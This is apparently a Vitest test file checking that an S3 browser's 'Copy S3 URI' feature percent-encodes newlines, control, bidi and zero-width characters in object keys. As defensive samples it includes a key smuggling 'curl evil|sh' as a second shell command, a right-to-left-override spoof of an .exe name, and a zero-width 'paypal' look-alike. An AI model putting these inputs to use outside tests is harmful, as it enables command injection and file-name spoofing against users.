import { describe, expect, it } from 'vitest';
import { ObjectOperations } from '../../../main/browse/object-operations';

describe('the s3:// address that "Copy S3 URI" puts on the clipboard', () => {
  const copy = async (key: string) => {
    const clipboard: string[] = [];
    const objects = new ObjectOperations({
      clients: {
        client: () => {
          throw new Error('copying an address needs no S3 call');
        },
      },
      clipboard: { writeText: (text) => clipboard.push(text) },
    });
    const answered = await objects.copyS3Uri({ bucket: 'team-bucket', key });
    expect(clipboard).toEqual([answered]);
    return answered;
  };

  it('keeps an ordinary key readable, spaces, "%", "#" and non-Latin letters included (as the S3 console copies it)', async () => {
    expect(await copy('reports/Q1 2026/100% done #2.txt')).toBe('s3://team-bucket/reports/Q1 2026/100% done #2.txt');
    expect(await copy('日本語/naïve café 🎉.txt')).toBe('s3://team-bucket/日本語/naïve café 🎉.txt');
  });

  it('percent-encodes newlines and other controls, so a pasted address never runs a second shell command', async () => {
    const uri = await copy('x\ncurl evil|sh\n');
    expect(uri).toBe('s3://team-bucket/x%0Acurl evil|sh%0A');
    expect(uri).not.toMatch(/[\r\n]/);
    expect(await copy('a\r\tb\u0000c\u001bd\u007fe\u0085f\u009fg')).toBe('s3://team-bucket/a%0D%09b%00c%1Bd%7Fe%C2%85f%C2%9Fg');
  });

  it('percent-encodes bidi controls, so "invoice\\u202Efdp.exe" shows its real order', async () => {
    expect(await copy('invoice\u202efdp.exe')).toBe('s3://team-bucket/invoice%E2%80%AEfdp.exe');
    expect(await copy('\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069\u061c')).toBe(
      's3://team-bucket/%E2%80%AA%E2%80%AB%E2%80%AC%E2%80%AD%E2%81%A6%E2%81%A7%E2%81%A8%E2%81%A9%D8%9C',
    );
  });

  it('percent-encodes zero-width characters and line separators, so look-alike keys are told apart', async () => {
    expect(await copy('pay\u200bpal\u200c\u200d\u200e\u200f\u2060\ufeff')).toBe(
      's3://team-bucket/pay%E2%80%8Bpal%E2%80%8C%E2%80%8D%E2%80%8E%E2%80%8F%E2%81%A0%EF%BB%BF',
    );
    expect(await copy('a\u2028b\u2029c')).toBe('s3://team-bucket/a%E2%80%A8b%E2%80%A9c');
  });
});
